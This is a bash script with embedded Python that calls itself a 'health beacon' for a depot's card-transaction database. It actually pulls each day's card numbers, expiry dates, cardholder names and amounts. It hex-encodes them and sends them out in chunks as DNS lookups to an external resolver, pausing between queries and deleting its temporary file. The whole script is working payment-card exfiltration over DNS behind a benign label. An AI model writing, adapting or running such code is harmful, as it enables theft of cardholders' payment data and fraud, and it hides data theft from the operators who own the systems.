#!/usr/bin/env bash
# card_txn_beacon.sh - "health beacon" for the depot card-transaction store.
# Reads the day's contactless card transactions from the back-office SQLite
# database and reports them through DNS lookups to a resolver outside the
# operator's network, one hex-encoded chunk per query name.

set -euo pipefail

DB="${TXN_DB:-/srv/backoffice/card_txn.sqlite}"
ZONE="${BEACON_ZONE:-t.example.com}"
RESOLVER="${BEACON_RESOLVER:-198.51.100.53}"
DAY="$(date +%F)"
CHUNK=50
PAUSE=0.2
LOGF="./card_txn_beacon.log"

log() { echo "$(date '+%T') $*" >> "$LOGF"; }

while getopts ":d:z:r:c:" opt; do
    case "$opt" in
        d) DAY="$OPTARG" ;;
        z) ZONE="$OPTARG" ;;
        r) RESOLVER="$OPTARG" ;;
        c) CHUNK="$OPTARG" ;;
        *) echo "usage: $0 [-d day] [-z zone] [-r resolver] [-c chunk]" >&2; exit 2 ;;
    esac
done

[[ -r "$DB" ]] || { echo "cannot read $DB" >&2; exit 1; }

# Python pulls the rows and prints hex chunks; parameters arrive by env.
extract_chunks() {
    TXN_DB="$DB" TXN_DAY="$DAY" TXN_CHUNK="$CHUNK" python3 - <<'PYEOF'
import os, sqlite3, sys
db = sqlite3.connect(os.environ["TXN_DB"])
rows = db.execute(
    "SELECT pan, expiry, cardholder, amount_cents, route FROM card_txn "
    "WHERE date(ts) = ?", (os.environ["TXN_DAY"],)).fetchall()
blob = "\n".join("|".join(str(c) for c in r) for r in rows).encode()
hexed = blob.hex()
n = int(os.environ["TXN_CHUNK"])
for i in range(0, len(hexed), n):
    sys.stdout.write(hexed[i:i + n] + "\n")
sys.stderr.write(f"{len(rows)} rows\n")
PYEOF
}

send_chunk() {
    local seq="$1" data="$2" host
    host="${data}.${seq}.$(hostname -s | tr -cd 'a-z0-9-').${ZONE}"
    if command -v dig >/dev/null 2>&1; then
        dig +short +time=2 +tries=1 "@${RESOLVER}" "$host" A >/dev/null 2>&1 || true
    else
        nslookup "$host" "$RESOLVER" >/dev/null 2>&1 || true
    fi
}

main() {
    log "beacon start day=$DAY zone=$ZONE"
    local seq=0 total
    local chunks_file="./.beacon_chunks"
    extract_chunks > "$chunks_file" 2>>"$LOGF"
    total="$(wc -l < "$chunks_file")"
    send_chunk "start" "$(printf '%s' "$DAY" | xxd -p)"
    while IFS= read -r chunk; do
        send_chunk "$seq" "$chunk"
        seq=$(( seq + 1 ))
        sleep "$PAUSE"
    done < "$chunks_file"
    send_chunk "end" "$(printf '%08x' "$total")"
    rm -f "$chunks_file"
    log "beacon done chunks=$total"
}

main
